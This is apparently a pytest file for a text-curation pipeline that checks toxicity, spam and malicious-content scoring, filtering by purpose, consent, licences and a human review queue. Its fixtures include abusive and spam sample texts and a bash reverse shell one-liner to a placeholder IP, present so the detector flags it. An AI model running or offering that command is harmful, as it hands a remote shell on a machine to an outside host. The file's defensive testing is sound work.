"""Signals of harm, purposes by condition, and documents that wait for somebody's decision."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pyarrow as pa
import pytest
from profanity_check import predict_prob

from undercroft.collect.stage import collect
from undercroft.curate import review
from undercroft.curate.signals import measure
from undercroft.curate.stage import curate
from undercroft.curate.toxicity import toxicity
from undercroft.errors import BadConfig, Denied, NotFound
from undercroft.lake import read_dataset
from undercroft.project import Project
from undercroft.records import Artifact

Opened = Callable[..., Project]
KIND = (
    "A context manager is an object that defines the runtime context to be established when "
    "executing a with statement, and it handles the entry into and the exit from that context."
)
RUDE = (
    "You are a stupid, pathetic idiot and nobody wants you here. Shut up, you worthless moron, "
    "and take your ugly bullshit somewhere else, you lying scumbag. I hate you, go and die."
)
SELLING = (
    "Buy cheap Viagra online without prescription! Order now, limited offer only today. The best "
    "online casino gives you free spins and a no deposit bonus. Click here to claim your discount."
)
HARMFUL = (
    "This script is all that you need on the other machine. Start it and wait for the prompt:\n\n"
    "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n\nThen type whatever you want to have done there."
)
TEXTS = {"kind": KIND, "rude": RUDE, "selling": SELLING, "harmful": HARMFUL}


def made(project: Project) -> Artifact:
    (raw,) = collect(project)
    (dataset,) = curate(project, raw=raw)
    return dataset


def names(project: Project, dataset: Artifact, purpose: str = "") -> set[str]:
    rows = read_dataset(project.lake, dataset, ["uri"], purpose)
    return {uri.rpartition("#")[2] for uri in rows["uri"].to_pylist()}


def document(project: Project, name: str) -> str:
    rows = project.lake.table("documents").read(["id", "uri"]).to_pylist()
    return next(row["id"] for row in rows if row["uri"].endswith(f"#{name}"))


def test_every_signal_points_at_its_document(project: Opened) -> None:
    opened = project(TEXTS)
    made(opened)
    columns = ["uri", "toxicity", "worst_toxicity", "spam", "num_malicious", "generated"]
    rows = opened.lake.table("documents").read(columns).to_pylist()
    found = {row["uri"].rpartition("#")[2]: row for row in rows}
    assert {n for n in found if found[n]["toxicity"] > 0.9} == {"rude"}
    assert {n for n in found if found[n]["spam"] > 0.9} == {"selling"}
    assert {n for n in found if found[n]["num_malicious"]} == {"harmful"}
    assert not any(row["generated"] for row in found.values())
    assert all(row["worst_toxicity"] >= row["toxicity"] for row in found.values())


def test_nothing_is_known_of_the_toxicity_of_other_languages(project: Opened) -> None:
    german = (
        "Ein Kontextmanager ist ein Objekt, das den Kontext zur Laufzeit festlegt und verlässt."
    )
    opened = project({"german": german})
    made(opened)
    rows = opened.lake.table("documents").read(["language", "toxicity"]).to_pylist()
    assert rows == [{"language": "de", "toxicity": None}]


@pytest.mark.parametrize(
    "text",
    [
        "I am a black woman from Africa and my friend is a gay Jewish man.",
        "Muslims, Christians and Jews live in this old town together.",
        "The process was killed by signal 9 and its children were reaped.",
        "Deaf and blind girls and boys were taught at the same school.",
    ],
)
def test_naming_people_or_killing_processes_is_not_toxic(text: str) -> None:
    _, worst = toxicity(measure(pa.array([text], pa.large_string())))
    assert worst[0] < 0.3


def test_scores_are_those_of_the_model_where_no_word_is_neutral() -> None:
    texts = ["You are a stupid idiot, go away", "Thanks a lot for the help", "", "what a damn mess"]
    mean, worst = toxicity(measure(pa.array(texts, pa.large_string())))
    expected = predict_prob(texts)
    assert mean.tolist() == worst.tolist()
    assert np.allclose(np.delete(mean, 2), np.delete(expected, 2), atol=1e-6)
    assert mean[2] == 0


def test_workers_read_the_model_without_the_library_it_was_trained_with(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    code = (
        "import sys, pyarrow as pa; from undercroft.curate.signals import measure; "
        "from undercroft.curate.toxicity import toxicity; "
        "print(*toxicity(measure(pa.array(['You stupid idiot'], pa.large_string()))), "
        "'sklearn' in sys.modules)"
    )
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    said = [subprocess.check_output([sys.executable, "-c", code], text=True) for _ in range(2)]
    assert [line.split()[-1] for line in said] == ["True", "False"]
    assert said[0].split()[:-1] == said[1].split()[:-1]
    (kept,) = (tmp_path / "undercroft" / "toxicity").iterdir()
    kept.write_bytes(b"damaged")
    assert subprocess.check_output([sys.executable, "-c", code], text=True) == said[0]


def test_the_mean_is_of_all_passages_and_the_worst_of_one() -> None:
    mild = "The recipe asks for flour, water, salt and a little patience in the kitchen. " * 30
    mean, worst = toxicity(measure(pa.array([f"{mild} {RUDE}", mild], pa.large_string())))
    assert mean[0] < 0.3 < 0.8 < worst[0]
    assert worst[1] < 0.3


def test_limits_remove_what_is_over_them(project: Opened) -> None:
    opened = project(TEXTS, max_toxicity=0.5, max_spam=0.9, remove_malicious=True)
    dataset = made(opened)
    assert dataset.meta["removed"] == {"toxicity": 1, "spam": 1, "malicious": 1}


def test_one_dataset_serves_purposes_that_exclude_each_other(project: Opened) -> None:
    purposes = {
        "pretraining": {"where": "toxicity < 0.5 AND spam < 0.9 AND num_malicious = 0"},
        "safety_classifier": {"where": "toxicity >= 0.5", "columns": ["uri", "text"]},
        "anything": {},
    }
    opened = project(TEXTS, purposes=purposes)
    dataset = made(opened)
    assert names(opened, dataset, "pretraining") == {"kind"}
    assert names(opened, dataset, "safety_classifier") == {"rude"}
    assert names(opened, dataset, "anything") == set(TEXTS)
    counts = {name: each["documents"] for name, each in dataset.meta["purposes"].items()}
    assert counts == {"retrieval": 4, "pretraining": 1, "safety_classifier": 1, "anything": 4}


def test_a_purpose_shows_its_columns_and_no_others(project: Opened) -> None:
    opened = project(TEXTS, purposes={"reading": {"columns": ["title", "text"]}})
    dataset = made(opened)
    assert read_dataset(opened.lake, dataset, None, "reading").column_names == ["title", "text"]
    with pytest.raises(Denied, match="uri"):
        read_dataset(opened.lake, dataset, ["uri"], "reading")


@pytest.mark.parametrize(
    ("purpose", "what"),
    [({"where": "toxicity <"}, "cannot be understood"), ({"columns": ["mood"]}, "mood")],
)
def test_a_purpose_that_makes_no_sense_is_refused(
    project: Opened, purpose: dict[str, object], what: str
) -> None:
    with pytest.raises(BadConfig, match=what):
        made(project(TEXTS, purposes={"odd": purpose}))


def test_what_may_be_learnt_from_is_not_what_may_be_quoted(project: Opened) -> None:
    opened = project(TEXTS)
    lines = (opened.root / "docs.jsonl").read_text().splitlines()
    lines[0] = lines[0].replace("{", '{"consent": "store", ', 1)
    (opened.root / "docs.jsonl").write_text("\n".join(lines))
    dataset = made(opened)
    assert "kind" in names(opened, dataset)
    assert "kind" not in names(opened, dataset, "retrieval")


def test_a_reviewed_document_waits_is_released_and_rejected(project: Opened) -> None:
    opened = project(TEXTS, max_toxicity=0.5, remove_malicious=True, review=["toxicity"])
    first = made(opened)
    (waits,) = review.waiting(opened, first)
    assert (waits.id, waits.rule) == (document(opened, "rude"), "toxicity")
    review.decide(opened, first, waits.id, "released", "quoted from a novel")
    second = made(opened)
    assert second.meta["removed"] == {"malicious": 1}
    assert names(opened, second) == {"kind", "rude", "selling"}
    assert review.waiting(opened, second) == []
    review.decide(opened, second, waits.id, "rejected", "no novel at all")
    third = made(opened)
    assert third.digest == first.digest
    assert review.waiting(opened, third) == []


def test_only_what_waits_can_be_decided_on(project: Opened) -> None:
    opened = project(TEXTS, remove_malicious=True)
    dataset = made(opened)
    with pytest.raises(NotFound, match="does not wait"):
        review.decide(opened, dataset, document(opened, "harmful"), "released", "")
    with pytest.raises(BadConfig, match="toxicity"):
        made(project(TEXTS, review=["toxicity"]))


def test_licences_are_kept_by_glob_in_any_case(project: Opened) -> None:
    opened = project({}, licences=["cc-by-*", "MIT"])
    rows = [("a", "CC-BY-4.0"), ("b", "mit"), ("c", "GPL-3.0"), ("d", "cc-by")]
    (opened.root / "docs.jsonl").write_text(
        "\n".join(
            f'{{"id": "{name}", "licence": "{licence}", "text": "{name.upper()} {KIND}"}}'
            for name, licence in rows
        )
    )
    dataset = made(Project.open(opened.root, {
        "collect.sources": ["docs.jsonl"], "curate.licences": ["cc-by-*", "MIT"],
        "curate.near_duplicate_jaccard": 1.0,
    }))  # fmt: skip
    assert dataset.meta["removed"]["licence"] == 2
    assert names(opened, dataset) <= {"a", "b"}


def test_the_policy_of_datatrove_has_its_filters_and_none_of_ours(project: Opened) -> None:
    opened = project(TEXTS, policy="datatrove-parity")
    with pytest.raises(Exception, match=r"gopher|fineweb|c4"):
        made(opened)
